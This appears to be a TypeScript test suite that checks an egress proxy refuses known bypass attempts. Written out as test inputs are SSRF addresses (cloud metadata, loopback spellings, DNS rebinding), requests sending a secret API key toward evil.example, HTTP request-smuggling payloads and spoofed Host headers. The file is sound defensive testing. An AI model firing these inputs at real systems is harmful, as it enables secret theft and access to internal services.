import assert from 'node:assert/strict'
import { once } from 'node:events'
import { connect } from 'node:net'
import type { TestContext } from 'node:test'
import { connect as connectTls } from 'node:tls'
import { egressBench, enter, enterTls, get, readAll, say } from './testing/egress-bench.ts'
import { egressTest } from './testing/egress-test.ts'
import { helloBytes, withExtension, withName } from './testing/hellos.ts'
import { upstream } from './testing/upstream.ts'

// S1-8.1 S1-8.2-a
// The numbers are those of the list of bypasses in the design; what needs a container is tried in the escape suite.

const SECRET = { domain: 'api.example', name: 'API_KEY', value: 'sk-very-secret-0123456789' }

async function bench(t: TestContext) {
  const made = await egressBench(t)
  const host = await upstream(t, { address: made.outside, ...made.certificates })
  const domains = ['api.example', 'listed.example', '*.wild.example', 'rebind.example']
  const container = await made.container({ domains, secrets: [SECRET] })
  const ca = [container.caPem ?? '', made.certificates.ca]
  const reasons = async (atLeast: number) =>
    (await made.receiptsOf(container.containerId, atLeast)).map(({ verdict, reason }) => `${verdict} ${reason}`)
  return { ...made, ...container, host, ca, reasons }
}

type Made = Awaited<ReturnType<typeof bench>>

/** Sends raw bytes to port 443 and gives what comes back: an alert is seven bytes. */
async function rawTls(b: Made, bytes: Buffer): Promise<Buffer> {
  const socket = await enter(b.socketPath, 443)
  socket.write(bytes)
  return Buffer.from(await readAll(socket), 'latin1')
}

const proxied = async (b: Made, text: string) => await say(await enter(b.socketPath, 3128), text)
const plain = async (b: Made, text: string) => await say(await enter(b.socketPath, 80), text)
const connectTo = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`

async function tunnel(b: Made, authority: string) {
  const socket = await enter(b.socketPath, 3128)
  socket.write(connectTo(authority))
  const [head] = (await once(socket, 'data')) as [Buffer]
  assert.match(head.toString(), /^HTTP\/1\.1 200/)
  return socket
}

egressTest('5: a resolver over https is a host like any other: unlisted, it is refused', async (t) => {
  const b = await bench(t)
  await assert.rejects(enterTls(b.socketPath, { servername: 'dns.example', ca: b.ca }), /unrecognized name/i)
  assert.deepEqual(await b.reasons(1), ['refused domain_not_allowed'])
  assert.ok(!b.dns.asked.includes('dns.example'), 'the name of a refused host is not even looked up')
})

egressTest('6 7 8 21: addresses are refused in every spelling, as is a name that has one of these', async (t) => {
  const b = await bench(t)
  const addresses = [
    '127.0.0.1',
    '10.0.0.1',
    '169.254.169.254',
    '2130706433',
    '0x7f.1',
    '127.1',
    '[::1]',
    '[::ffff:7f00:1]',
  ]
  for (const address of [...addresses, '[64:ff9b::7f00:1]', '[fd00:ec2::254]']) {
    assert.match(await plain(b, get(address)), /403[^]*name_is_address/, address)
    assert.match(await proxied(b, get(address, `http://${address}/`)), /403[^]*name_is_address/, address)
    assert.match(await proxied(b, connectTo(`${address}:443`)), /403[^]*name_is_address/, address)
  }
  for (const name of ['127.0.0.1', '169.254.169.254']) {
    const reply = await rawTls(b, withName(await helloBytes({ servername: 'x.example' }), name))
    assert.deepEqual([...reply.subarray(0, 3), reply.length], [21, 3, 3, 7])
  }
  for (const address of ['169.254.169.254', '10.1.2.3', '::1', '::ffff:7f00:1', '64:ff9b::7f00:1', 'fd00:ec2::254']) {
    b.dns.records.set('www.wild.example', [address])
    b.dns.records.set(`n${address.length}.wild.example`, [address])
    const host = `n${address.length}.wild.example`
    assert.match(await plain(b, get(host)), /403[^]*address_not_allowed/, address)
    await assert.rejects(enterTls(b.socketPath, { servername: host, ca: b.ca }), /access denied/i, address)
  }
  assert.deepEqual(b.host.seen, [])
})

egressTest('9: a request for another host than its TLS session is refused', async (t) => {
  const b = await bench(t)
  for (const host of ['listed.example', 'other.example', 'api.example:8443', 'api.example.evil.example']) {
    const tls = await enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
    assert.match(await say(tls, get(host, '/', ['X: $API_KEY'])), /403[^]*host_mismatch/, host)
  }
  const tls = await enterTls(b.socketPath, { servername: 'API.example', ca: b.ca })
  assert.match(await say(tls, get('api.EXAMPLE.', '/')), /^HTTP\/1\.1 200/)
  assert.equal(b.host.seen.length, 1)
})

egressTest('10: a hello without a name, and bytes that are no hello, are refused', async (t) => {
  const b = await bench(t)
  const nameless = await helloBytes({})
  assert.deepEqual([...(await rawTls(b, nameless))], [21, 3, 3, 0, 2, 2, 49])
  await rawTls(b, Buffer.from('GET / HTTP/1.1\r\nHost: listed.example\r\n\r\n'))
  await rawTls(b, Buffer.from('SSH-2.0-x\r\n'))
  assert.deepEqual(await b.reasons(3), ['refused name_missing', 'refused hello_malformed', 'refused hello_malformed'])
})

egressTest('11: an encrypted hello is refused, though its outer name is listed', async (t) => {
  const b = await bench(t)
  const hello = withExtension(await helloBytes({ servername: 'listed.example' }), 0xfe0d, Buffer.alloc(200, 7))
  assert.deepEqual([...(await rawTls(b, hello))], [21, 3, 3, 0, 2, 2, 49])
  assert.deepEqual(await b.reasons(1), ['refused ech_not_allowed'])
})

egressTest('12: a listed host is no relay: nothing but TLS for that host goes through its tunnel', async (t) => {
  const b = await bench(t)
  const socket = await tunnel(b, 'listed.example:443')
  const reply = await say(socket, connectTo('evil.example:443'))
  assert.equal(reply.charCodeAt(0), 21)
  const other = connectTls({ socket: await tunnel(b, 'listed.example:443'), servername: 'api.example', ca: b.ca })
  await assert.rejects(once(other, 'secureConnect'))
  assert.match(await plain(b, connectTo('listed.example:443')), /403/)
  const inside = await enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
  assert.match(await say(inside, connectTo('evil.example:443')), /403/)
  const through = await tunnel(b, 'listed.example:80')
  assert.match(await say(through, get('api.example')), /403[^]*host_mismatch/)
  assert.deepEqual(b.host.seen, [])
  const fine = await enterTls(
    b.socketPath,
    { servername: 'listed.example', ca: b.ca },
    await tunnel(b, 'listed.example:443'),
  )
  assert.match(await say(fine, get('listed.example')), /hello listed\.example/)
})

egressTest(
  '13: other ports are refused, by CONNECT, by address and by Host, until an administrator adds them',
  async (t) => {
    const b = await bench(t)
    for (const port of [22, 25, 853, 8443]) {
      assert.match(await proxied(b, connectTo(`listed.example:${port}`)), /403[^]*port_not_allowed/)
      const address = `http://listed.example:${port}/`
      assert.match(await proxied(b, get(`listed.example:${port}`, address)), /403[^]*port_not_allowed/)
    }
    assert.match(await plain(b, get('listed.example:8080')), /403[^]*host_mismatch/)
    const open = await b.container({ domains: ['listed.example'], ports: [80, 443, 8443] })
    const socket = await enter(open.socketPath, 3128)
    assert.match(await say(socket, connectTo('listed.example:8443')), /200 Connection/)
    const [receipt] = await b.receiptsOf(open.containerId)
    assert.deepEqual([receipt?.port, receipt?.reason], [8443, 'connect_failed'])
  },
)

egressTest('14: a redirect is handed to the client, whose next request is judged like any other', async (t) => {
  const b = await bench(t)
  b.host.http.removeAllListeners('request')
  b.host.http.on('request', (_request, response) =>
    response.writeHead(302, { location: 'http://169.254.169.254/' }).end(),
  )
  assert.match(await plain(b, get('listed.example')), /302[^]*location: http:\/\/169\.254\.169\.254/)
  assert.match(await plain(b, get('169.254.169.254')), /403/)
})

egressTest(
  '15 16: a name that turns to loopback is refused at once, and one private address among public ones is enough',
  async (t) => {
    const b = await bench(t)
    assert.match(await plain(b, get('rebind.example')), /hello/)
    b.dns.records.set('rebind.example', ['127.0.0.1'])
    let reply = ''
    // The checked addresses of a name are used for two seconds at most.
    for (const end = Date.now() + 10_000; Date.now() < end && !reply.includes('address_not_allowed');) {
      reply = await plain(b, get('rebind.example'))
      assert.match(reply, /hello|address_not_allowed/)
    }
    assert.match(reply, /address_not_allowed/)
    b.dns.records.set('www.wild.example', [b.outside, '10.0.0.1'])
    assert.match(await plain(b, get('www.wild.example')), /address_not_allowed/)
    const local = await b.container({ domains: ['localhost', 'a.localhost'] })
    for (const name of ['localhost', 'a.localhost']) {
      assert.match(await say(await enter(local.socketPath, 80), get(name)), /address_not_allowed/)
    }
  },
)

egressTest('20: the socket is the identity: what one container may do, another may not', async (t) => {
  const b = await bench(t)
  const other = await b.container({ domains: ['other.example'] })
  assert.match(await say(await enter(other.socketPath, 80), get('listed.example')), /domain_not_allowed/)
  assert.match(await say(await enter(other.socketPath, 80), get('other.example')), /hello other/)
  assert.match(await plain(b, get('other.example')), /domain_not_allowed/)
  const never = await b.client.attach({
    containerId: 'cntr_never',
    organizationId: 'org_never',
    socketPath: `${b.folder}/never.sock`,
    requestDomains: ['listed.example'],
    ports: [],
    plainHttpSecrets: false,
  })
  assert.equal(never.caPem, null)
  assert.match(await say(await enter(`${b.folder}/never.sock`, 80), get('listed.example')), /domain_not_allowed/)
})

egressTest('22: a websocket to another host, and a switch to another protocol, do not pass', async (t) => {
  const b = await bench(t)
  const upgrade = (host: string, to: string) =>
    get(host, '/', [`Upgrade: ${to}`, 'X: $API_KEY']).replace('Connection: close', 'Connection: Upgrade')
  const tls = () => enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
  assert.match(await say(await tls(), upgrade('evil.example', 'websocket')), /403[^]*host_mismatch/)
  assert.match(await plain(b, upgrade('evil.example', 'websocket')), /403/)
  const h2c = await tls()
  const reading = once(h2c, 'data')
  h2c.write(upgrade('api.example', 'h2c'))
  assert.match(String(((await reading) as [Buffer])[0]), /^HTTP\/1\.1 200/)
  h2c.destroy()
  assert.equal(b.host.seen[0]?.headers.upgrade, undefined)
})

egressTest('23: absolute addresses and second Host headers do not lead elsewhere', async (t) => {
  const b = await bench(t)
  const tls = () => enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
  assert.match(await say(await tls(), get('api.example', 'https://evil.example/', ['X: $API_KEY'])), /400/)
  assert.match(await say(await tls(), get('api.example', '//evil.example/')), /hello api\.example/)
  assert.match(await say(await tls(), get('api.example', '/', ['Host: evil.example'])), /400/)
  assert.match(await say(await tls(), 'GET / HTTP/1.1\r\nConnection: close\r\n\r\n'), /400/)
  assert.match(await plain(b, get('listed.example', 'http://evil.example/')), /400/)
  assert.match(await plain(b, get('listed.example', '/', ['Host: listed.example'])), /400/)
  assert.match(await proxied(b, get('listed.example', 'http://evil.example/')), /403/)
  assert.match(await proxied(b, get('listed.example', 'http://listed.example@evil.example/')), /403/)
  assert.match(await proxied(b, get('listed.example', '/')), /400/)
  assert.match(await proxied(b, get('listed.example', 'http://listed.example/a?b')), /hello listed\.example \/a\?b/)
  assert.equal(b.host.seen.length, 2)
})

egressTest('24: what two readers could understand in two ways is not sent on', async (t) => {
  const b = await bench(t)
  const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: api.example\r\n\r\n'
  const head = 'POST / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n'
  const requests = [
    `${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    `${head}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello${smuggled}`,
    `${head}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n`,
    `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n`,
    `${head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`,
    `${head}X: a\nY: b\r\n\r\n`,
    `${head}X: a\r\n folded\r\n\r\n`,
    `${head}X: a\0b\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n\r\nhello`,
    `${head}Content-Length: +5\r\n\r\nhello`,
    `GET / HTTP/1.1\r\nHost: api.example\r\nX: ${'a'.repeat(40_000)}\r\n\r\n`,
  ]
  for (const request of requests) {
    const tls = await enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
    const reply = await say(tls, request)
    assert.match(reply, /^HTTP\/1\.1 (?:400|403)/, JSON.stringify(request.slice(0, 120)))
  }
  assert.deepEqual(b.host.seen, [])
  const many = `${Array.from({ length: 3_000 }, () => 'a: b\r\n').join('')}Transfer-Encoding: chunked\r\n\r\n`
  const long = await enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
  const smuggledChunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`
  assert.match(await say(long, `${head}${many}${smuggledChunk}`), /^HTTP\/1\.1 (?:200|4\d\d)/)
  assert.ok(b.host.seen.every(({ url, headers }) => url === '/' && headers['transfer-encoding'] === 'chunked'))
  b.host.seen.length = 0
  const kept = await enterTls(b.socketPath, { servername: 'api.example', ca: b.ca })
  const body = `${head}Content-Length: ${smuggled.length}\r\nConnection: content-length, x-hop\r\nX-Hop: 1\r\n\r\n${smuggled}`
  assert.match(await say(kept, body), /^HTTP\/1\.1 200/)
  assert.deepEqual(
    b.host.seen.map(({ url, headers }) => [url, headers['x-hop']]),
    [['/', undefined]],
  )
})

egressTest('what does not begin with the line of the forwarder gets nothing', async (t) => {
  const b = await bench(t)
  for (const first of ['GET / HTTP/1.1\r\n', '{"port":22}\n', `{"port":443${'0'.repeat(100)}`, '\n']) {
    const socket = connect(b.socketPath)
    await once(socket, 'connect')
    assert.equal(await say(socket, first), '')
  }
})
